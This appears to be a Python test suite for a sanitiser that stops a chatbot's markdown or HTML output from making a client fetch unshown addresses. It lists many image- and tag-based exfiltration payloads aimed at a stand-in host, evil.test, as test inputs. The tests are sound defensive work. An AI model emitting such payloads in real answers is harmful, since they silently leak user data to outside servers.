"""The text of a tainted answer: whatever draws it fetches nothing, wherever its pieces are cut."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bubbot.runtime.quiet import QuietText, quieten
from bubbot.runtime.shown import ShownTexts, list_addresses
from bubbot.tape import entry as make

SHOWN = "https://page.test/a"
EVIL = "http://evil.test/i?qk7"
LIVE = (
    f"![x]({EVIL})",
    f"!![x]({EVIL})",
    f"![x\ny]({EVIL})",
    f"![x][1]\n\n[1]: {EVIL}",
    "![x](//evil.test/i?qk7)",
    f"![x]({SHOWN})",
    f"[![x]({SHOWN})]({EVIL})",
    f"<img src={EVIL}>",
    f"<img\nsrc='{EVIL}'>",
    f"<IMG srcset='{EVIL} 2x'>",
    f'<div style="background:url({EVIL})">',
    f"<svg><image href='{EVIL}'/></svg>",
    "<link rel=stylesheet href=//evil.test/i?qk7>",
    f"<!--><img src={EVIL}>",
    f"1. x\n   ```\n<img src={EVIL}>\n![x]({EVIL})",
    f"```\ncode\n```\n![x]({EVIL})",
    f"```a`b\n![x]({SHOWN})",
    f"```html\n<img src={EVIL}><img src={SHOWN}>\n```",
    f"> ```\n![x]({SHOWN})",
    f"    ```\n\n![x]({SHOWN})",
    f"````\n```\n````\n<img src={SHOWN}>",
    f"see {EVIL} and <{EVIL}>, HTTPS://evil.test/qk7, www.evil.test/qk7, evil.test/qk7 or ftp://evil.test/qk7",
    f"{SHOWN}/qk7 and http://c.test/?u={SHOWN}",
)


def is_fetched(text: str) -> list[str]:
    """What a client would fetch: images, whatever a tag loads, and addresses, except those that were shown."""
    drawn = MarkdownIt("commonmark", {"html": True}).render(text)
    code = re.sub(r"<pre>.*?</pre>", lambda block: "" if "<img" not in block[0] else block[0], drawn, flags=re.DOTALL)
    tags = re.findall(
        r"<(?:img|image|svg|link|div|iframe|script|style|source|video|object)\b[^>]*", code, re.IGNORECASE
    )
    return [
        *tags,
        *re.findall(r"(?i)\S*(?:evil|c\.test)\S*", " ".join(list_addresses(text))),
        *re.findall(r"(?i)www\.\w|evil\.test/", text),
    ]


def quiet(text: str) -> str:
    return quieten(text, {SHOWN}.__contains__)


@pytest.mark.parametrize("text", LIVE)
def test_nothing_is_fetched(text: str) -> None:
    assert is_fetched(text), "the text proves nothing"
    assert is_fetched(quiet(text)) == []


@given(
    parts=st.lists(
        st.sampled_from([*LIVE, "\n", " ", "!", "[", "<", "`", "```", "://", "plain words", SHOWN]), max_size=6
    )
)
def test_nothing_is_fetched_of_any_mixture(parts: list[str]) -> None:
    assert is_fetched(quiet("".join(parts))) == []


@given(text=st.sampled_from(LIVE), after=st.sampled_from(["", "\nmore `code`"]), data=st.data())
def test_the_pieces_add_up_to_the_whole_wherever_they_are_cut(text: str, after: str, data: st.DataObject) -> None:
    whole = f"Look:\n{text}{after}"
    cuts = sorted(data.draw(st.lists(st.integers(0, len(whole)), max_size=8)))
    one = QuietText({SHOWN}.__contains__)
    pieces = [one.feed(whole[start:end]) for start, end in zip([0, *cuts], [*cuts, len(whole)], strict=True)]
    assert "".join([*pieces, one.flush()]) == quiet(whole)


@pytest.mark.parametrize(
    "text",
    [
        "Plain words, 3 < 4, a != b, e.g. x.y and README.md!",
        f"[a page]({SHOWN}), <b>",
        "```python\nx: List<int> = a[!b]  # <img>\n```\nand/or 1 // 2",
        "",
    ],
)
def test_what_fetches_nothing_stays_as_it_is(text: str) -> None:
    assert quiet(text).replace("< b>", "<b>") == text


def test_addresses_of_people_and_tools_stand_unless_the_model_wrote_them_before() -> None:
    def stands(*entries: object) -> bool:
        numbered = [entry.with_id(place) for place, entry in enumerate(entries, 1)]  # type: ignore[attr-defined]
        return ShownTexts("t", numbered, lambda _: False).stands(SHOWN)

    result = make.tool_result([{"tool_call_id": "c", "content": f"see {SHOWN}"}], provenance="world")
    call = make.tool_call([{"id": "c", "type": "function", "function": {"name": "x", "arguments": f'"{SHOWN}"'}}])
    assert stands(make.message("user", SHOWN, origin="human", sender={"id": "1"}))
    assert stands(result)
    assert not stands(call, result)
    assert not stands(make.message("assistant", SHOWN))


def test_another_text_begins_outside_code_and_without_what_was_held_back() -> None:
    quiet = QuietText(lambda _: False)
    assert quiet.feed("```\n<b>half") == "```\n"
    quiet.restart()
    assert quiet.feed("<b> ") + quiet.flush() == "< b> "
